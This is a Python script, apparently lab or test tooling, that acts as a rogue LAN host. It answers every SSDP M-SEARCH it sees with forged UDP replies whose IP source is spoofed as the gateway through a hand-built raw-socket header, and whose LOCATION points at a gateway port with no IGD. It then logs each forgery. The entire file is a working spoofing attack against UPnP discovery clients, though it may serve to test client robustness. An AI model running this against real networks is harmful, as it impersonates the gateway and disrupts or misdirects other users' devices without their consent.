#!/usr/bin/env python3
"""A rogue LAN host that forges SSDP answers from the gateway's own address (lab only; root).

Any host on the LAN sees a client's multicast M-SEARCH, and with it the client's UDP port. This
one answers each M-SEARCH at once with a datagram whose IP source is the gateway (raw socket, IP
header written by hand) and whose LOCATION is on the gateway too, but not the IGD (--location,
e.g. http://192.168.1.1:1/rootDesc.xml). A client that checks only the sender address and the
LOCATION host takes it for the box's answer and then finds no IGD. Each forged answer is logged
to --log as one JSON object per line.

usage: hostile_spoof.py --address ROGUE_IP --gateway GW_IP --location URL --log FILE [--ready FILE]
"""
import argparse
import json
import socket
import struct
import time

SSDP_GROUP = "239.255.255.250"


def udp_datagram(src, sport, dst, dport, payload):
    """An IPv4 header (the kernel fills in the length and checksum) and a UDP header."""
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # checksum 0: none
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--address", required=True, help="this host's LAN address")
    ap.add_argument("--gateway", required=True, help="the address to forge")
    ap.add_argument("--location", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("--copies", type=int, default=3, help="forged answers per search (1 ms apart)")
    ap.add_argument("--ready")
    args = ap.parse_args()

    listen = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listen.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listen.bind(("", 1900))
    listen.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                      struct.pack("4s4s", socket.inet_aton(SSDP_GROUP), socket.inet_aton(args.address)))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    if args.ready:
        open(args.ready, "w").close()
    while True:
        data, (client, port) = listen.recvfrom(4096)
        if client in (args.address, args.gateway) or not data.startswith(b"M-SEARCH"):
            continue
        st = b"urn:schemas-upnp-org:device:InternetGatewayDevice:1"
        for line in data.split(b"\r\n"):
            if line.upper().startswith(b"ST:"):
                st = line[3:].strip()
        answer = (b"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nST: " + st + b"\r\nUSN: uuid:forged::" + st +
                  b"\r\nEXT:\r\nSERVER: Linux UPnP/1.1 MiniUPnPd/2.3.1\r\nLOCATION: " + args.location.encode() +
                  b"\r\n\r\n")
        for _ in range(args.copies):
            raw.sendto(udp_datagram(args.gateway, 1900, client, port, answer), (client, 0))
            time.sleep(0.001)
        with open(args.log, "a") as f:
            f.write(json.dumps({"kind": "forged", "client": client, "port": port, "st": st.decode("latin-1"),
                                "time": round(time.time(), 3)}) + "\n")


if __name__ == "__main__":
    main()
